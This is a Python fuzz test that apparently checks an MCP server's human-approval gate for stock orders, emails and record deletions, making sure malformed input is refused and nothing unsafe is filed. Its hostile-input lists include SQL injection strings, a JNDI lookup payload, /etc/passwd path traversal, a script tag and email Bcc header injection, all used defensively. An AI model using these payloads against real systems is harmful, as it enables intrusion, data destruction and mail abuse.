"""Fuzz: hypothesis-generated arguments for every tool, through a real in-process MCP session.

A gated call ends one of two ways: a tool error that names a field it refused (or the policy's denial),
with nothing filed; or one request filed whose stored arguments equal the action's validated, normalised
input. Never a crash ("Error executing tool X" and nothing after it), never a request filed from input the
action's own argument model refuses. Keys a tool does not declare are refused if its published input
schema says `additionalProperties: false`, and otherwise ignored: never validated, never stored. The
companion tools never crash either, and a refused call changes nothing.

300 examples per tool; `HITL_FUZZ_SCALE=10 .venv/bin/pytest tests/test_fuzz.py` runs ten times as many.
The expression parser is fuzzed on its own in tests/test_expr.py.
"""

from __future__ import annotations

import json
import math
import operator
import os
import re
import sqlite3
import unicodedata
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import ExitStack, closing, contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Annotated, Any

import anyio
import pytest
from anyio.from_thread import BlockingPortal, start_blocking_portal
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from mcp import Client
from mcp_types import CallToolResult
from pydantic import BaseModel, Field, TypeAdapter, ValidationError

from hitl_mcp import expr
from hitl_mcp.actions import ACTION_TYPES
from hitl_mcp.actions.buy_stock import MAX_PRICE, MAX_QUANTITY, BuyArguments
from hitl_mcp.actions.delete_records import MAX_CONDITION_LENGTH
from hitl_mcp.actions.send_email import MAX_BODY_LENGTH, MAX_SUBJECT_LENGTH
from hitl_mcp.config import Settings, load_settings
from hitl_mcp.server import MAX_WAIT_SECONDS
from tests.test_policy import POLICY
from tests.test_server import session, text

SCALE = int(os.environ.get("HITL_FUZZ_SCALE") or "1")
EXAMPLES = 300 * SCALE
CALL_TIMEOUT_SECONDS = 30.0

FUZZ = settings(
    max_examples=EXAMPLES,
    derandomize=True,
    database=None,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example],
)


# --- a real MCP session, driven from hypothesis' synchronous examples -------------------------------------


class SyncSession:
    """An in-process SDK client living in a portal thread's event loop; `call` blocks until it answers."""

    def __init__(self, portal: BlockingPortal, client: Client) -> None:
        self.portal = portal
        self.client = client

    def call(self, tool: str, arguments: dict[str, Any]) -> CallToolResult:
        result: CallToolResult = self.portal.call(self._call, tool, arguments)
        return result

    def input_schema(self, tool: str) -> dict[str, Any]:
        listed = self.portal.call(self.client.list_tools)
        return next(dict(found.input_schema) for found in listed.tools if found.name == tool)

    async def _call(self, tool: str, arguments: dict[str, Any]) -> CallToolResult:
        with anyio.fail_after(CALL_TIMEOUT_SECONDS):
            return await self.client.call_tool(tool, arguments)


@contextmanager
def sessions(settings: Settings, *principals: str) -> Iterator[list[SyncSession]]:
    """One server and client per principal, opened and closed in the same task of one portal."""
    with start_blocking_portal() as portal, ExitStack() as stack:
        yield [
            SyncSession(portal, stack.enter_context(portal.wrap_async_context_manager(session(settings, p))))
            for p in principals
        ]


@pytest.fixture
def governed(env: dict[str, str], config_file: Path) -> Settings:
    """The README's policy: cheap orders and mail to example.com run at once, competitor.com is denied."""
    config_file.write_text(config_file.read_text() + POLICY)
    return load_settings(env)


@contextmanager
def reading(store: Path) -> Iterator[sqlite3.Connection]:
    """A read-only connection to the request store the server created; each query sees the latest commit."""
    with closing(
        sqlite3.connect(f"{store.resolve().as_uri()}?mode=ro", uri=True, isolation_level=None)
    ) as db:
        yield db


def requests_count(store: sqlite3.Connection) -> int:
    row = store.execute("SELECT count(*) FROM requests").fetchone()
    return int(row[0])


def table_columns(database: Path) -> dict[str, list[str]]:
    with closing(sqlite3.connect(database)) as connection:
        tables = [row[0] for row in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        return {
            table: [row[0] for row in connection.execute("SELECT name FROM pragma_table_info(?)", [table])]
            for table in tables
        }


# --- the oracle: what the action's own model (and, for deletes, the parser) makes of the input ------------


@dataclass(frozen=True)
class Valid:
    arguments: dict[str, Any]


@dataclass(frozen=True)
class Invalid:
    fields: frozenset[str]


@dataclass(frozen=True)
class Denied:
    pass


Expected = Valid | Invalid | Denied


def wire(value: Any) -> Any:
    """What the server receives: the client sends JSON, where NaN and the infinities become null."""
    if isinstance(value, float) and not math.isfinite(value):
        return None
    if isinstance(value, list):
        return [wire(item) for item in value]
    if isinstance(value, dict):
        return {key: wire(item) for key, item in value.items()}
    return value


def has_surrogate(value: str) -> bool:
    return any(unicodedata.category(char) == "Cs" for char in value)


def model_verdict(
    model: type[BaseModel], raw: dict[str, Any], *, refuses_unknown: bool
) -> BaseModel | Invalid:
    """The validated arguments, or every name a refusal may give: failing fields and, if the caller refuses
    them, keys the model lacks (a key that is not valid Unicode has no name: the refusal says `(arguments)`).
    Where unknown keys are not refused they must be ignored: never validated, never stored."""
    declared = {name: value for name, value in raw.items() if name in model.model_fields}
    unknown = {name if not has_surrogate(name) else "(arguments)" for name in raw if name not in declared}
    extra = unknown if refuses_unknown else set()
    # The SDK validates the declared fields first; it refuses text that is not valid Unicode as such.
    broken = {name for name, value in declared.items() if isinstance(value, str) and has_surrogate(value)}
    try:
        validated = model.model_validate(declared)
    except ValidationError as error:
        failing = {str(item["loc"][0]) for item in error.errors() if item["loc"]}
        return Invalid(frozenset(failing | broken | extra))
    if broken or extra:
        return Invalid(frozenset(broken | extra))
    return validated


def expected(
    tool: str, raw: dict[str, Any], columns: dict[str, list[str]], *, refuses_unknown: bool
) -> Expected:
    allowed = {"users", "sessions"}
    verdict = model_verdict(ACTION_TYPES[tool].arguments_model, raw, refuses_unknown=refuses_unknown)
    if isinstance(verdict, Invalid):
        return verdict
    normalised = verdict.model_dump(mode="json")
    if tool == "delete_database_records":
        table = normalised["table"].lower()
        if table not in allowed:
            return Invalid(frozenset({"table"}))
        try:
            node = expr.parse(normalised["condition"], max_length=MAX_CONDITION_LENGTH)
            expr.to_sql(node, columns[table], table=table)
        except expr.ExpressionError:
            return Invalid(frozenset({"condition"}))
    if tool == "send_email" and normalised["to"].lower().endswith("@competitor.com"):
        return Denied()
    return Valid(normalised)


def assert_parameterised_on_its_table(
    preview: dict[str, Any], table: str, columns: dict[str, list[str]]
) -> None:
    """What the approver is shown: SQL over the named table's own columns, every literal a parameter."""
    assert preview["table"].lower() == table.lower()
    where_sql, params = preview["where_sql"], preview["params"]
    assert set(re.findall(r'"([^"]*)"', where_sql)) <= set(columns[preview["table"]]), where_sql
    assert "'" not in where_sql and ";" not in where_sql and "--" not in where_sql, where_sql
    assert where_sql.count("?") == len(params), (where_sql, params)


def table_rows(database: Path) -> dict[str, int]:
    with closing(sqlite3.connect(database)) as connection:
        return {
            table: connection.execute(f'SELECT count(*) FROM "{table}"').fetchone()[0]
            for table in table_columns(database)
        }


def names_a_field(message: str, fields: frozenset[str]) -> bool:
    """The SDK's pydantic text puts a failing field on a line of its own; the gate's says `field: rule`."""
    return any(re.search(rf"(?:^|\n|: |; ){re.escape(field)}(?:\n|: )", message) for field in fields)


def assert_not_a_crash(tool: str, result: CallToolResult) -> str:
    message = text(result)
    prefix = f"Error executing tool {tool}: "
    assert message.startswith(prefix) and message[len(prefix) :].strip(), f"internal error: {message!r}"
    return message


# --- strategies -----------------------------------------------------------------------------------------

NASTY_TEXT = (
    "", " ", "\x00", "\t", "\r\n", "\x1b[31m", "\u0085", "\u2028", "\u202e", "\ufeff", "\u200b", "\ud800",
    "a\udfffb", "é", "🙂", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "İ", "ß", "Ｇ", "' OR 1=1 --", "1; DROP TABLE requests",
    "'); DELETE FROM requests; --", "%", "_", "%s%n", "{0}", "${jndi:ldap://x/a}", "../../etc/passwd",
    "<script>alert(1)</script>", "\\", '"', "NULL", "null", "NaN", "Infinity", "-1", "1e400", "0x10", "true",
    "[1, 2]", '{"a": 1}', "\r\n.\r\n", "x\r\nBcc: evil@evil.com",
)  # fmt: skip
HUGE_TEXT = st.builds(
    operator.mul,
    st.sampled_from(["A", "é", "\x00", "' OR 1=1 ", "🙂", "a@b.c,", "\n"]),
    st.integers(1_000, 150_000),
)
HOSTILE_TEXT = st.text(max_size=40) | st.sampled_from(NASTY_TEXT) | HUGE_TEXT
NUMBERS = (
    st.integers()
    | st.integers(-(2**80), 2**80)
    | st.floats()
    | st.sampled_from([0, -0.0, 5e-324, 1e-300, 1e308, 2**63 - 1, 2**63, 2**64, -(2**63)])
)
HOSTILE = st.recursive(
    st.none() | st.booleans() | NUMBERS | HOSTILE_TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=6,
)
ODD_KEYS = (
    "ctx", "principal", "requested_by", "request_id", "status", "arguments", "__proto__", "limit_price",
    "Symbol", "symbol ", "TO", "", "\ud800", "table\x00",
)  # fmt: skip
EXTRA_KEYS = st.sampled_from(ODD_KEYS) | st.text(max_size=10)


@st.composite
def calls(
    draw: st.DrawFn,
    fields: dict[str, st.SearchStrategy[Any]],
    hostile: st.SearchStrategy[Any] = HOSTILE,
    required: frozenset[str] = frozenset(),
) -> dict[str, Any]:
    """Mostly plausible values, some hostile ones, some fields missing, sometimes keys the tool lacks."""
    arguments: dict[str, Any] = {}
    for name, plausible in fields.items():
        roll = draw(st.integers(0, 9 if name not in required else 8))
        if roll <= 6:
            arguments[name] = draw(plausible)
        elif roll <= 8:
            arguments[name] = draw(hostile)
    if draw(st.integers(0, 9)) == 9:
        arguments.update(draw(st.dictionaries(EXTRA_KEYS, HOSTILE, min_size=1, max_size=3)))
    return arguments


ODD_SYMBOLS = (
    "GOOGL", "brk.b", "BRK-B", "A", "ABCDEFGHIJKL", "ABCDEFGHIJKLM", "1ABC", ".A", "GOOGL ", " GOOGL",
    "GOOG\n", "ＧＯＯＧ", "ı", "\u212a", "A;DROP", "A'--",
)  # fmt: skip
SYMBOLS = st.from_regex(r"\A[A-Za-z][A-Za-z0-9.\-]{0,11}\Z") | st.sampled_from(ODD_SYMBOLS)
QUANTITIES = (
    st.integers(1, 10_000)
    | st.integers(MAX_QUANTITY - 2, MAX_QUANTITY + 2)
    | st.integers(-3, 0)
    | st.sampled_from([1.0, 2.5, True, "5"])
)
PRICES = (
    st.floats(min_value=0.0001, max_value=2_000)
    | st.floats(min_value=MAX_PRICE * 0.99, max_value=MAX_PRICE * 1.01)
    | st.integers(1, 500)
    | st.sampled_from([5e-324, 1e-9, 0.005, 0.0, -1.0, float("nan"), float("inf"), "1.5", "NaN"])
)
DOMAINS = (
    "example.com", "EXAMPLE.COM", "competitor.com", "sub.competitor.com", "Competitor.COM", "example.org",
    "bücher.de", "xn--bcher-kva.de", "localhost", "[127.0.0.1]", "example.com.evil", "a..b", "-x.com",
)  # fmt: skip
LOCALS = st.from_regex(r"\A[a-zA-Z0-9._%+-]{1,20}\Z") | st.sampled_from(
    ["", "a..b", ".a", "ü", "a b", '"q"', "a\r\nBcc: x@y.z", "x" * 65, "a@b"]
)
ODD_ADDRESSES = (
    "not-an-address", "Bob <bob@example.org>", "a@example.org, b@example.org", "a@example.org\n",
    "@example.org", "a@", "a" * 250 + "@example.org",
)  # fmt: skip
ADDRESSES = (
    st.builds("{}@{}".format, LOCALS, st.sampled_from(DOMAINS)) | st.emails() | st.sampled_from(ODD_ADDRESSES)
)
SUBJECTS = (
    st.text(min_size=1, max_size=60)
    | st.text(st.characters(codec="ascii", categories=["L", "N", "P", "Zs"]), min_size=1, max_size=80)
    | st.builds(operator.mul, st.just("s"), st.integers(MAX_SUBJECT_LENGTH - 1, MAX_SUBJECT_LENGTH + 1))
    | st.sampled_from(NASTY_TEXT)
)
BODIES = (
    st.text(max_size=300)
    | st.builds(operator.mul, st.sampled_from(["b", "é\n"]), st.integers(0, 50))
    | st.builds(operator.mul, st.just("b"), st.integers(MAX_BODY_LENGTH - 1, MAX_BODY_LENGTH + 1))
    | st.sampled_from(NASTY_TEXT)
)
ODD_TABLES = (
    "secrets", "sqlite_master", "requests", "audit", "users;", "users --", "main.users", "", "_", "x" * 128,
    "x" * 129,
)  # fmt: skip
TABLES = (
    st.sampled_from(["users", "users", "sessions", "USERS", "Sessions"])
    | st.just("users")
    | st.sampled_from(ODD_TABLES)
    | st.from_regex(r"\A[A-Za-z_][A-Za-z0-9_]{0,10}\Z")
)
CONDITIONS_THAT_PARSE = (
    "age < 30", "status = 'inactive' AND last_login < '2024-01-01'", "id IN (3, 7)",
    "email LIKE '%@test.com'", "deleted_at IS NOT NULL", "NOT (age >= 18 OR status <> 'x')", "id = -1",
    "age * 2 + 1 > id % 3", "email = 'it''s; DROP TABLE users --'", "id IN (1, NULL, 'x', 2.5)",
    "user_id = 1", "age / 0 IS NULL", "age = 9223372036854775807 + 1", "status = '🙂\x00'",
    "id = 1 OR " * 300 + "id = 2",
)  # fmt: skip
SQL_FRAGMENTS = (
    "id", "email", "age", "status", "last_login", "deleted_at", "user_id", "value", "rowid", "users",
    "secrets", "sqlite_master", "(", ")", ",", ";", "--", "/*", "'", '"', "=", "<", ">=", "<>", "!=", "+",
    "*", "/", "%", "AND", "OR", "NOT", "IN", "LIKE", "IS", "NULL", "TRUE", "1", "-1", "2.5", "1e400",
    "9223372036854775808", "'x'", "'%@test.com'", "'it''s'", "SELECT", "DROP", "UNION", "FROM", "?", ":x",
)  # fmt: skip
CONDITIONS = (
    st.sampled_from(CONDITIONS_THAT_PARSE)
    | st.sampled_from(CONDITIONS_THAT_PARSE)
    | st.lists(st.sampled_from(SQL_FRAGMENTS), min_size=1, max_size=15).map(" ".join)
    | st.text(max_size=60)
    | st.builds(
        operator.mul, st.just(" "), st.integers(MAX_CONDITION_LENGTH - 7, MAX_CONDITION_LENGTH + 2)
    ).map(lambda pad: "id = 1" + pad)
)

GATED_CALLS: dict[str, st.SearchStrategy[dict[str, Any]]] = {
    "buy_stock": calls({"symbol": SYMBOLS, "quantity": QUANTITIES, "price": PRICES}),
    "send_email": calls({"to": ADDRESSES, "subject": SUBJECTS, "body": BODIES}),
    "delete_database_records": calls({"table": TABLES, "condition": CONDITIONS}),
}


# --- gated tools ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("tool", sorted(GATED_CALLS))
def test_gated_tool_files_exactly_the_validated_input_or_names_what_it_refused(
    governed: Settings, target_db: Path, tool: str
) -> None:
    columns = table_columns(target_db)
    outcomes: Counter[str] = Counter()
    with sessions(governed, "agent") as [agent], reading(governed.db_path) as store:
        # Keys the tool does not declare: refused if its published schema says so, else ignored.
        refuses_unknown = agent.input_schema(tool).get("additionalProperties") is False

        @FUZZ
        @given(arguments=GATED_CALLS[tool])
        def check(arguments: dict[str, Any]) -> None:
            want = expected(tool, wire(arguments), columns, refuses_unknown=refuses_unknown)
            before = requests_count(store)
            result = agent.call(tool, arguments)
            filed = requests_count(store) - before

            if not isinstance(want, Valid):
                message = assert_not_a_crash(tool, result)
                assert result.is_error
                assert filed == 0, f"a request was filed from invalid input: {message}"
                if isinstance(want, Denied):
                    assert f"the policy for {tool} refuses this request" in message, message
                else:
                    assert names_a_field(message, want.fields), (sorted(want.fields), message)
                outcomes["refused"] += 1
                return

            assert not result.is_error, (want.arguments, text(result))
            assert filed == 1
            assert result.structured_content is not None
            shown = dict(result.structured_content)
            assert shown["tool"] == tool
            assert shown["status"] in {"pending", "executed", "failed"}, shown
            if shown["status"] == "pending":
                assert "Nothing has run yet" in text(result)
            row = store.execute(
                "SELECT tool, arguments, requested_by FROM requests WHERE id = ?", [shown["request_id"]]
            ).fetchone()
            assert (row[0], json.loads(row[1]), row[2]) == (tool, want.arguments, "agent")
            record = agent.call("get_request", {"request_id": shown["request_id"]})
            assert not record.is_error and record.structured_content is not None, text(record)
            assert record.structured_content["arguments"] == want.arguments
            if tool == "delete_database_records":
                assert_parameterised_on_its_table(shown["preview"], want.arguments["table"], columns)
            outcomes[f"filed {shown['status']}"] += 1

        check()

    # Filing never touches the target database: deletes wait for two engineers.
    assert table_rows(target_db) == {"users": 4, "sessions": 0, "secrets": 1}
    # Both sides of the contract were exercised, not only the refusals.
    filed = sum(count for outcome, count in outcomes.items() if outcome.startswith("filed"))
    assert filed >= EXAMPLES // 20, outcomes
    assert outcomes["refused"] >= EXAMPLES // 20, outcomes


# --- companion tools ------------------------------------------------------------------------------------

ORDER = {"symbol": "GOOGL", "quantity": 10, "price": 150.0}  # $1,500: one trader must approve

EDITS = (
    st.fixed_dictionaries(
        {},
        optional={
            "symbol": SYMBOLS,
            "quantity": st.integers(1, 50) | QUANTITIES,
            "price": st.floats(1, 200) | PRICES,
        },
    )
    | st.dictionaries(
        # No lone surrogates in a nested key: the SDK's client cannot serialise one to send it.
        st.sampled_from(["symbol", "quantity", "price"])
        | EXTRA_KEYS.filter(lambda key: not has_surrogate(key)),
        st.one_of(SYMBOLS, QUANTITIES, PRICES, HOSTILE),
        max_size=3,
    )
    | HOSTILE
)


@st.composite
def request_refs(draw: st.DrawFn) -> Callable[[str], Any]:
    """How a call names the request: its id, a prefix of it, an id that does not exist, or junk."""
    kind = draw(st.integers(0, 4))
    if kind <= 1:
        return lambda request_id: request_id
    if kind == 2:
        cut = draw(st.integers(0, 12))
        return lambda request_id: request_id[:cut]
    if kind == 3:
        suffix = draw(st.sampled_from(["0", "'", " ", "%", "_"]))
        return lambda request_id: request_id + suffix
    junk = draw(HOSTILE)
    return lambda request_id: junk


WAIT = TypeAdapter(Annotated[float, Field(ge=0, le=MAX_WAIT_SECONDS)])


def waits_long(value: Any) -> bool:
    """Whether wait_for_decision would accept `value` as a timeout worth more than a blink."""
    try:
        return WAIT.validate_python(value) > 0.05
    except ValidationError:
        return False


REASONS = (
    st.text(min_size=1, max_size=40)
    | st.sampled_from(NASTY_TEXT)
    | st.builds(operator.mul, st.just("r"), st.integers(1999, 2001))
)
COMPANION_FIELDS: dict[str, dict[str, st.SearchStrategy[Any]]] = {
    "list_pending": {
        "tool": st.none() | st.sampled_from(sorted(GATED_CALLS)) | st.sampled_from(["nope", "", "BUY_STOCK"]),
        "limit": st.integers(1, 200) | st.integers(-2, 0) | st.sampled_from([201, 1.5, "10"]),
        "cursor": st.none()
        | st.integers(0, 10**6).map(str)
        | st.sampled_from(["", "-1", "abc", "1.5", " 1", "²", "١٢٣", "9" * 18, "9" * 19, "9" * 32, "9" * 33]),
    },
    "get_request": {},
    "approve": {"reason": st.none() | REASONS, "arguments": st.none() | EDITS},
    "reject": {"reason": REASONS},
    "wait_for_decision": {
        "timeout_seconds": st.floats(0, 0.02) | st.sampled_from([-1, 50.5, 1e9, float("nan"), "0", "0.01"]),
    },
    "cancel_request": {},
}
COMPANION_CALLS = {
    tool: calls(fields) if fields else st.just({})
    for tool, fields in COMPANION_FIELDS.items()
    if tool != "wait_for_decision"
}
# Short waits only: a valid wait on a pending request lasts its whole timeout, and the default is 30 s.
COMPANION_CALLS["wait_for_decision"] = calls(
    COMPANION_FIELDS["wait_for_decision"],
    hostile=HOSTILE.filter(lambda value: not waits_long(value)),
    required=frozenset({"timeout_seconds"}),
)


def edit_verdict(changes: Any) -> dict[str, Any] | None:
    """The arguments an approval editing ORDER with `changes` must leave, or None if it must be refused."""
    if not isinstance(changes, dict) or set(changes) - set(BuyArguments.model_fields):
        return None
    verdict = model_verdict(BuyArguments, {**ORDER, **changes}, refuses_unknown=True)
    if isinstance(verdict, Invalid):
        return None
    normalised = verdict.model_dump(mode="json")
    return None if normalised == BuyArguments.model_validate(ORDER).model_dump(mode="json") else normalised


def snapshot(store: sqlite3.Connection, request_id: str) -> tuple[Any, ...]:
    return tuple(
        store.execute(
            "SELECT status, arguments, "
            "(SELECT count(*) FROM decisions WHERE decisions.request_id = requests.id) "
            "FROM requests WHERE id = ?",
            [request_id],
        ).fetchone()
    )


@pytest.mark.parametrize("tool", sorted(COMPANION_CALLS))
def test_companion_tool_never_crashes_and_a_refused_call_changes_nothing(
    governed: Settings, tool: str
) -> None:
    outcomes: Counter[str] = Counter()
    with sessions(governed, "agent", "alice") as [agent, alice], reading(governed.db_path) as store:

        @FUZZ
        @given(
            ref=request_refs(),
            arguments=COMPANION_CALLS[tool],
            caller=st.sampled_from(["alice", "alice", "agent"]),
        )
        def check(ref: Callable[[str], Any], arguments: dict[str, Any], caller: str) -> None:
            filed = agent.call("buy_stock", ORDER)
            assert not filed.is_error and filed.structured_content is not None, text(filed)
            request_id = filed.structured_content["request_id"]
            if tool != "list_pending":
                arguments = {"request_id": ref(request_id), **arguments}
            before, count = snapshot(store, request_id), requests_count(store)

            result = (alice if caller == "alice" else agent).call(tool, arguments)

            assert requests_count(store) == count, "a companion tool filed a request"
            if result.is_error:
                assert_not_a_crash(tool, result)
                assert snapshot(store, request_id) == before
                outcomes["refused"] += 1
                return
            outcomes["answered"] += 1
            after = snapshot(store, request_id)
            if after == before:
                # Read-only tools, or a decision on another request that junk happened to name uniquely.
                assert tool in {"list_pending", "get_request", "wait_for_decision"} or ref(request_id) != (
                    request_id
                ), (tool, arguments)
            elif tool == "approve":
                edits = wire(arguments.get("arguments"))
                stored = json.loads(after[1])
                assert stored == (ORDER if edits is None else edit_verdict(edits)), (edits, stored)
            else:
                assert (tool, after[0]) in {("reject", "rejected"), ("cancel_request", "cancelled")}, after

        check()

    assert outcomes["refused"] >= 1 and outcomes["answered"] >= 1, outcomes
